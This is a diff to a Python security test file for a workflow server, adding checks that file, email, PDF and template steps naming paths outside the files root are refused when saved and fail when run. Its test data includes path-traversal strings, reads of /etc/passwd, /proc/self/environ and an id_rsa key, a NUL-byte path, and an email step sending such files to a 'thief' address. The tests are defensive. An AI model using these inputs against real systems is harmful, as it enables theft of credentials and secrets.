@@ -115,6 +115,14 @@ def failed_step(run: dict) -> dict:
     return failed
 
 
+def step_refused(server, definition: dict, path: str, message: str) -> None:
+    """A definition naming a path outside the root as written is refused (422) at that field and not stored."""
+    created = define(server, definition)
+    assert created.status_code == 422, created.text
+    assert created.json()["error"]["details"] == [{"path": path, "message": message}]
+    assert server.get(f"/api/workflows/{definition['name']}").status_code == 404
+
+
 def refused_and_not_stored(server, definition: dict, field: str) -> None:
     """A definition whose trigger names a forbidden folder is refused (422) and not stored (DESIGN section 10)."""
     created = define(server, definition)
@@ -132,12 +140,14 @@ def test_the_attack_chain_of_the_issue_cannot_plant_and_run_code(server, root):
     planted = LIBRARY / "pwn.py"
     assert not planted.exists()
     try:
-        # 1. A file step writes pwn.py inside the files root (allowed), then tries to put it into the code tree.
-        chain = unique("pwn_write")
-        result = run(server, {"name": chain, "steps": [
-            step("write", "file", operation="write", path="drop/pwn.py", content=PWN),
-            step("plant", "file", operation="copy", path="drop/pwn.py", destination=str(planted)),
-        ]})
+        # 1. A file step writes pwn.py inside the files root (allowed), then tries to put it into the code tree:
+        # refused when saved as written, and when the step runs with the destination from the inputs.
+        steps = [step("write", "file", operation="write", path="drop/pwn.py", content=PWN),
+                 step("plant", "file", operation="copy", path="drop/pwn.py", destination=str(planted))]
+        step_refused(server, {"name": unique("pwn_write"), "steps": steps}, "steps[1].config.destination",
+                     f"destination '{planted}' is outside WORKFLOW_FILES_ROOT ({root})")
+        steps[1]["config"]["destination"] = "{{ inputs.to }}"
+        result = run(server, {"name": unique("pwn_write"), "steps": steps}, {"to": str(planted)})
         assert result["status"] == "failed"
         assert failed_step(result)["name"] == "plant"
         assert failed_step(result)["error"] == (
@@ -185,15 +195,21 @@ def test_a_file_trigger_cannot_empty_a_folder_outside_the_root(server, outside):
 
 @pytest.mark.parametrize("value", ["/etc/passwd", "../../../../../../etc/passwd", "~/.bashrc", "/proc/self/environ"])
 def test_file_steps_stay_inside_the_root(server, root, value):
-    result = run(server, {"name": unique("file"), "steps": [step("read", "file", operation="read", path=value)]})
+    step_refused(server, {"name": unique("file"), "steps": [step("read", "file", operation="read", path=value)]},
+                 "steps[0].config.path", f"path {value!r} is outside WORKFLOW_FILES_ROOT ({root})")
+    result = run(server, {"name": unique("file"), "steps": [
+        step("read", "file", operation="read", path="{{ inputs.path }}")]}, {"path": value})
     assert result["status"] == "failed"
     assert failed_step(result)["error"] == f"file: path {value!r} is outside WORKFLOW_FILES_ROOT ({root})"
     assert "root:" not in json.dumps(result) and SMTP_PASSWORD not in json.dumps(result)
 
 
 def test_a_nul_byte_in_a_path_is_a_clear_step_error(server):
+    step_refused(server, {"name": unique("nul"), "steps": [
+        step("write", "file", operation="write", path="a\u0000/../../x", content="x")]},
+        "steps[0].config.path", "path 'a\\x00/../../x' contains a NUL byte")
     result = run(server, {"name": unique("nul"), "steps": [
-        step("write", "file", operation="write", path="a\u0000/../../x", content="x")]})
+        step("write", "file", operation="write", path="{{ inputs.path }}", content="x")]}, {"path": "a\u0000/../../x"})
     assert result["status"] == "failed"
     assert failed_step(result)["error"] == "file: path 'a\\x00/../../x' contains a NUL byte"
 
@@ -216,11 +232,19 @@ def test_a_symlink_inside_the_root_pointing_out_is_not_followed(server, root, ou
 def test_send_email_cannot_mail_files_from_outside_the_root(server, smtp, root, outside):
     recorder, _ = smtp
     before = len(recorder.messages)
-    for attachments in ("/proc/self/environ", ["/etc/passwd"], [{"path": str(outside / "id_rsa")}],
-                        [{"path": "../../../../../../proc/self/environ", "filename": "env.txt"}]):
-        result = run(server, {"name": unique("mail"), "steps": [
-            step("mail", "send_email", to="thief@example.org", subject="loot", body="see attached",
-                 attachments=attachments)]})
+    for attachments, field in (("/proc/self/environ", "attachments"), (["/etc/passwd"], "attachments[0]"),
+                               ([{"path": str(outside / "id_rsa")}], "attachments[0].path"),
+                               ([{"path": "../../../../../../proc/self/environ", "filename": "env.txt"}],
+                                "attachments[0].path")):
+        mail = step("mail", "send_email", to="thief@example.org", subject="loot", body="see attached",
+                    attachments=attachments)
+        created = define(server, {"name": unique("mail"), "steps": [mail]})
+        assert created.status_code == 422, created.text
+        [problem] = created.json()["error"]["details"]
+        assert problem["path"] == f"steps[0].config.{field}"
+        assert problem["message"].startswith(f"{field} ") and "is outside WORKFLOW_FILES_ROOT" in problem["message"]
+        mail["config"]["attachments"] = "{{ inputs.attachments }}"
+        result = run(server, {"name": unique("mail"), "steps": [mail]}, {"attachments": attachments})
         assert result["status"] == "failed"
         assert failed_step(result)["error"].startswith("send_email: attachments[0] ")
         assert "is outside WORKFLOW_FILES_ROOT" in failed_step(result)["error"]
@@ -249,8 +273,13 @@ def test_an_upload_made_by_the_server_can_still_be_mailed(server, smtp):
 
 @pytest.mark.parametrize("type_", ["pdf_text", "extract_pdf_data"])
 def test_pdf_steps_read_only_inside_the_root(server, root, outside, type_):
-    for file in ("/etc/passwd", str(outside / "id_rsa"), [{"path": "/etc/passwd", "content_type": "application/pdf"}]):
-        result = run(server, {"name": unique("pdf"), "steps": [step("read", type_, file=file)]})
+    for file, field in (("/etc/passwd", "file"), (str(outside / "id_rsa"), "file"),
+                        ([{"path": "/etc/passwd", "content_type": "application/pdf"}], "file[0].path")):
+        step_refused(server, {"name": unique("pdf"), "steps": [step("read", type_, file=file)]},
+                     f"steps[0].config.{field}", f"{field} {file if isinstance(file, str) else '/etc/passwd'!r} "
+                                                 f"is outside WORKFLOW_FILES_ROOT ({root})")
+        result = run(server, {"name": unique("pdf"), "steps": [step("read", type_, file="{{ inputs.file }}")]},
+                     {"file": file})
         assert result["status"] == "failed"
         assert failed_step(result)["error"].startswith(f"{type_}: file '")
         assert "is outside WORKFLOW_FILES_ROOT" in failed_step(result)["error"]
@@ -272,8 +301,11 @@ def test_json_inputs_cannot_point_the_shipped_workflows_at_files(server):
 def test_templates_dir_is_inside_the_root(server, root):
     for type_, config in (("validate_data", {"data": {}, "template": "company_a"}),
                           ("extract_pdf_data", {"file": "form.pdf"})):
+        step_refused(server, {"name": unique("templates"), "steps": [
+            step("s", type_, templates_dir=str(REPO / "pdf_templates"), **config)]}, "steps[0].config.templates_dir",
+            f"templates_dir '{REPO / 'pdf_templates'}' is outside WORKFLOW_FILES_ROOT ({root})")
         result = run(server, {"name": unique("templates"), "steps": [
-            step("s", type_, templates_dir=str(REPO / "pdf_templates"), **config)]})
+            step("s", type_, templates_dir="{{ inputs.dir }}", **config)]}, {"dir": str(REPO / "pdf_templates")})
         assert result["status"] == "failed"
         assert failed_step(result)["error"] == (
             f"{type_}: templates_dir '{REPO / 'pdf_templates'}' is outside WORKFLOW_FILES_ROOT ({root})")
